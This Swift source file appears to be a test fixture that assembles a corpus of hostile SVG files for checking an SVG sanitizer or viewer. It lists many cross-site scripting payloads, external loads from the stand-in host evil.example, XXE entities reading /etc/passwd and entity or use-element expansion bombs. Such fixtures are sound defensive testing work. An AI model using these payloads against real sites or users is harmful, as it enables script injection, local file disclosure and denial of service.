// SVG images with scripts, which run if a browser opens the files directly.
enum HostileDrawings {
  private static let namespaces =
    "xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" "
    + "xmlns:html=\"http://www.w3.org/1999/xhtml\" xmlns:ev=\"http://www.w3.org/2001/xml-events\""

  /// Whole files.
  static let all =
    inside.map {
      "<svg \(namespaces) width=\"90\" height=\"90\">\($0)<rect width=\"9\" height=\"9\"/></svg>"
    }
    + whole

  private static let inside = [
    "<script>alert(1)</script>", "<script type=\"text/javascript\"><![CDATA[alert(1)]]></script>",
    "<script href=\"https://evil.example/s.js\"/>", "<script xlink:href=\"data:,alert(1)\"/>",
    "<html:script>alert(1)</html:script>", "<html:img src=\"x\" onerror=\"alert(1)\"/>",
    "<html:iframe src=\"javascript:parent.alert(1)\"/>",
    "<html:link rel=\"stylesheet\" href=\"https://evil.example/s.css\"/>",
    "<html:meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>",
    "<html:body onload=\"alert(1)\"/>",
    "<html:video src=\"https://evil.example/v\" onerror=\"alert(1)\"/>",
    "<foreignObject width=\"9\" height=\"9\"><html:body onload=\"alert(1)\"><html:script>alert(1)</html:script></html:body></foreignObject>",
    "<foreignObject><html:iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"/></foreignObject>",
    "<use href=\"https://evil.example/u.svg#x\"/>",
    "<use xlink:href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='x'&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;#x\"/>",
    "<image href=\"https://evil.example/i.png\"/>", "<image href=\"file:///etc/passwd\"/>",
    "<image xlink:href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/&gt;\"/>",
    "<image href=\"javascript:alert(1)\" onerror=\"alert(1)\"/>",
    "<feImage href=\"https://evil.example/f.png\"/><filter id=\"f\"><feImage xlink:href=\"https://evil.example/g\"/></filter>",
    "<a href=\"javascript:alert(1)\"><rect width=\"90\" height=\"90\"/></a>",
    "<a xlink:href=\"java&#x09;script:alert(1)\"><text y=\"9\">x</text></a>",
    "<a id=\"a\"><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text y=\"9\">x</text></a>",
    "<animate onbegin=\"alert(1)\" attributeName=\"x\" dur=\"1s\"/>",
    "<set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
    "<set xlink:href=\"#a\" attributeName=\"href\" to=\"javascript:alert(1)\" begin=\"0s\"/>",
    "<animateMotion onend=\"alert(1)\" dur=\".1s\"/><animateTransform onrepeat=\"alert(1)\" dur=\".1s\" repeatCount=\"9\" attributeName=\"transform\"/>",
    "<discard begin=\"0s\" onbegin=\"alert(1)\"/>",
    "<handler type=\"text/javascript\" ev:event=\"load\">alert(1)</handler>",
    "<ev:listener event=\"load\" handler=\"#h\"/>",
    "<g onload=\"alert(1)\" onclick=\"alert(1)\" onfocusin=\"alert(1)\" tabindex=\"0\"/>",
    "<style>@import 'https://evil.example/s.css';</style>",
    "<style>@import url(//evil.example/t.css);</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style><text y=\"9\">x</text>",
    "<style>*{fill:url(https://evil.example/u#x);background:url(https://evil.example/b)}</style>",
    "<style>*{background:\\75 rl(https://evil.example/c)}</style>",
    "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
    "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
    "<rect style=\"fill:url(https://evil.example/d#x)\" width=\"9\" height=\"9\"/>",
    "<rect fill=\"url(https://evil.example/e#x)\" mask=\"url('https://evil.example/m')\" width=\"9\" height=\"9\"/>",
    "<rect cursor=\"url(https://evil.example/c),auto\" filter=\"url(//evil.example/g#f)\" width=\"9\" height=\"9\"/>",
    "<text><textPath href=\"https://evil.example/p#x\">x</textPath></text><tref xlink:href=\"https://evil.example/t\"/>",
    "<linearGradient href=\"https://evil.example/l#x\"/><pattern xlink:href=\"https://evil.example/p#x\"/>",
    "<switch><foreignObject><html:script>alert(1)</html:script></foreignObject></switch>",
    "<metadata><html:script>alert(1)</html:script></metadata><desc><script>alert(1)</script></desc>",
    "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
    "<view id=\"v\" onload=\"alert(1)\"/>",
    "<audio src=\"https://evil.example/a\" xmlns=\"http://www.w3.org/1999/xhtml\" autoplay=\"\"/>",
    "<mpath xlink:href=\"https://evil.example/m#x\"/><cursor id=\"c\" xlink:href=\"https://evil.example/c.png\"/>",
    "<font-face-uri xlink:href=\"https://evil.example/f.svg#x\"/><color-profile xlink:href=\"https://evil.example/i.icc\"/>",
  ]

  private static let whole = [
    "<svg \(namespaces) onload=\"alert(1)\"/>",
    "<svg \(namespaces) onload='alert(1)' viewBox=\"0 0 9 9\"><rect width=\"9\" height=\"9\"/></svg>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"https://evil.example/s.css\"?><svg \(namespaces)/>",
    "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml,%3Cx/%3E\"?><svg \(namespaces)/>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg \(namespaces)><text y=\"9\">&x;</text></svg>",
    "<!DOCTYPE svg [<!ENTITY x \"&lt;script>alert(1)&lt;/script>\">]><svg \(namespaces)>&x;</svg>",
    "<!DOCTYPE svg [<!ENTITY x \"<script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>\">]><svg \(namespaces)>&x;</svg>",
    "<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"alert(1)\">]><svg \(namespaces)/>",
    "<!DOCTYPE svg PUBLIC \"x\" \"https://evil.example/x.dtd\"><svg \(namespaces)/>",
    "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\">"
      + (1...9).map {
        "<!ENTITY \(letter($0)) \"\(String(repeating: "&\(letter($0 - 1));", count: 10))\">"
      }
      .joined() + "]><svg \(namespaces)><text>&j;</text></svg>",
    "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:script>alert(1)</svg:script></svg:svg>",
    "<svg \(namespaces)><svg onload=\"alert(1)\"><script>alert(1)</script></svg></svg>",
    "<svg \(namespaces)>" + "<g id=\"a0\"><path d=\"M0 0\"/></g>"
      + (1...9).map { level in
        "<g id=\"a\(level)\">" + String(repeating: "<use href=\"#a\(level - 1)\"/>", count: 10)
          + "</g>"
      }.joined() + "</svg>",
  ]

  private static func letter(_ index: Int) -> String { String(Array("abcdefghij")[index]) }
}
